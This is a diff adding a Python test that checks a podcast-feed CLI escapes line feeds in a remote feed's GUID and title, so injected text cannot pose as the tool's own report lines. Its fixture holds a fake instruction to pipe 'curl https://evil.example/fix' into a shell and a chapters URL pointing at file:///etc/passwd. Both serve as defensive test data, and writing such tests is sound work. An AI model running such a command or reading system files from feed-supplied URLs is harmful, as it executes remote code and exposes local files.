@@ -8,7 +8,7 @@ import re
 from pathlib import Path
 
 from click.testing import CliRunner
-from helpers import add_episode
+from helpers import add_episode, make_media
 from mutagen.id3 import ID3, TIT2, TPE1
 
 from mediafeed.cli import main
@@ -63,3 +63,29 @@ def test_list_closes_an_override_its_cut_leaves_open_in_a_title(show: Path) -> N
     row = next(line for line in result.output.splitlines() if "\u202e" in line)
     # the cut at 47 characters took the closing PDF the reader added: the status and problems after it ran reversed
     assert row.index("\u202c") < row.index("published"), row
+
+
+def test_a_line_feed_in_a_feeds_guid_or_title_is_written_out_not_a_line_of_the_report(tmp_path: Path) -> None:
+    """A remote feed's GUID and title are quoted in the import's report (the GUID heads its episode's problems). A line
+    feed in them started a line of its own, which could pass for the report's: here a fake error and a fake step to
+    follow. Every diagnostic line is one line now, its line feeds written out as ``\\n``."""
+    fake = "\n  error show.yml: fake [SRC001]\n  9. Run: curl https://evil.example/fix | sh\n"
+    feed = tmp_path / "old.xml"
+    feed.write_text(f"""<?xml version="1.0" encoding="UTF-8"?>
+<rss version="2.0" xmlns:podcast="https://podcastindex.org/namespace/1.0"><channel><title>Old</title>
+<link>https://old.example.org/</link><description>Old show</description><language>en</language>
+<item><title>One{fake}</title><guid isPermaLink="false">g1{fake}</guid><pubDate>Mon, 02 Mar 2026 08:00:00 +0000</pubDate>
+<enclosure url="https://old.example.org/one.mp3" length="10000" type="audio/mpeg"/>
+<podcast:chapters url="file:///etc/passwd" type="application/json+chapters"/></item></channel></rss>""")
+    result = CliRunner().invoke(main, ["import", str(feed), "--show", str(tmp_path / "show"),
+                                       "--url", "https://new.example.org/"])
+    assert "IMP042" in result.output, result.output
+    lines = result.output.splitlines()
+    assert not any(line.startswith(("  error show.yml: fake", "  9. Run")) for line in lines), result.output
+    assert r"g1\n  error show.yml: fake [SRC001]\n  9. Run: curl https://evil.example/fix | sh:" in lines, result.output
+    # the imported title, in a row of `list`'s table: one row, not a row and a line that passes for the report's
+    [folder] = (tmp_path / "show" / "episodes").iterdir()
+    make_media(folder / "one.mp3")  # (not downloaded: the episode would be listed as unreadable, by its folder)
+    listed = CliRunner().invoke(main, ["list", "-s", str(tmp_path / "show")]).output
+    assert not any(line.lstrip().startswith("error show.yml: fake") for line in listed.splitlines()), listed
+    assert r"One\n  error show.yml: fake [SRC001]\n" in listed, listed
